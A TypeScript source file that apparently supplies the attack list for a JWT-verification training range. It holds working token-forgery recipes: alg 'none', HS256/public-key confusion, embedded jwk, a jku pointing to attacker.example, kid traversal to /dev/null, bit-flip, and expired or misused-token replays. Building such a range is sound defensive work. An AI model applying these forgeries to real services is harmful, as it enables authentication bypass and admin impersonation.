import { flipLastSignatureBit, hs256, joinToken } from "@/lib/threats/jwt-range/forge";
import { ATTACKS_2026 } from "@/lib/threats/jwt-range/attacks-2026";
import {
  asAdmin,
  forge,
  genuine,
  signedByAttacker,
  withoutPrivatePart,
  type Attack,
} from "@/lib/threats/jwt-range/recipe";

export type {
  Attack,
  AttackTarget,
  Built,
  IssuedKind,
  RangeMaterial,
} from "@/lib/threats/jwt-range/recipe";

/**
 * The range's classic attacks, one recipe each, then the 2025–26 classes (./attacks-2026.ts).
 */

function algNone(alg: string): Attack {
  return {
    id: `alg_${alg}`,
    title: `alg: "${alg}"`,
    how: `The header says "alg": "${alg}" and the signature is empty; the role says admin.`,
    harm: "accepted",
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forged = { header: { typ: header.typ, alg }, payload: asAdmin(payload), signature: "" };
      return { token: joinToken(forged), target: "access" };
    },
  };
}

const CLASSIC: readonly Attack[] = [
  {
    id: "role_admin",
    title: "Change the role to admin",
    how: "The payload's role is edited to admin; the signature is left as it was (now wrong).",
    harm: "accepted",
    exploits: "decode_only",
    build: async (m) => {
      const parts = await genuine(m);
      return { token: joinToken({ ...parts, payload: asAdmin(parts.payload) }), target: "access" };
    },
  },
  algNone("none"),
  algNone("None"),
  algNone("NONE"),
  {
    id: "alg_confusion",
    title: "Algorithm confusion (HS256 with the public key)",
    how: "The header says HS256 and the signature is an HMAC keyed with the range's published public key (its PEM text).",
    harm: "accepted",
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const token = await forge({ ...header, alg: "HS256" }, asAdmin(payload), (input) =>
        hs256(input, m.publicPem),
      );
      return { token, target: "access" };
    },
  },
  {
    id: "embedded_jwk",
    title: "Embedded jwk",
    how: "Signed with the attacker's own key, whose public half rides in the header as jwk.",
    harm: "accepted",
    exploits: "trust_jwk",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        jwk: withoutPrivatePart(m.attacker.privateJwk),
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "jku",
    title: "jku to the attacker's key set",
    how: "Signed with the attacker's key; the header's jku points to the attacker's site, which serves its public half.",
    harm: "accepted",
    exploits: "trust_jku",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        kid: m.attacker.privateJwk.kid,
        jku: m.attacker.jwksUrl ?? "http://attacker.example/jwks.json",
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "kid_traversal",
    title: "kid path traversal",
    how: 'The kid walks out of the key directory to /dev/null (an empty file): the HMAC is keyed with "".',
    harm: "accepted",
    exploits: "kid_as_path",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = { alg: "HS256", typ: header.typ, kid: "../../../../../../dev/null" };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
      return { token, target: "access" };
    },
  },
  {
    id: "expired",
    title: "An expired token",
    how: "A genuine token whose exp passed an hour ago — a copy kept from earlier.",
    harm: "accepted",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("expired"), target: "access" }),
  },
  {
    id: "not_yet_valid",
    title: "A not-yet-valid token",
    how: "A genuine token whose nbf is an hour away.",
    harm: "accepted",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("not_yet_valid"), target: "access" }),
  },
  {
    id: "pass_as_access",
    title: "A check-in pass used as an access token",
    how: "A genuine check-in pass (typ checkin+jwt, its own audience) presented where an access token is expected.",
    harm: "accepted",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("pass"), target: "access" }),
  },
  {
    id: "access_as_pass",
    title: "An access token used as a check-in pass",
    how: "A genuine access token presented at the check-in door.",
    harm: "accepted",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("fresh"), target: "pass" }),
  },
  {
    id: "stolen_bound",
    title: "A stolen DPoP-bound token, replayed as Bearer",
    how: "A genuine token from a DPoP login, bound to the victim's key (cnf.jkt), copied and sent as a plain Bearer token — the thief has no key to sign a proof with.",
    harm: "accepted",
    exploits: "ignore_cnf",
    build: async (m) => ({ token: await m.issue("bound"), target: "access" }),
  },
  {
    id: "bit_flip",
    title: "Signature bit-flip",
    how: "The last character of a genuine signature, one unused bit flipped: a different string, the same signature bytes — a second spelling of one token.",
    harm: "accepted",
    exploits: "lenient_base64",
    build: async (m) => {
      const genuine = await m.issue("fresh");
      return { token: flipLastSignatureBit(genuine), target: "access", genuine };
    },
  },
];

export const ATTACKS: readonly Attack[] = [...CLASSIC, ...ATTACKS_2026];
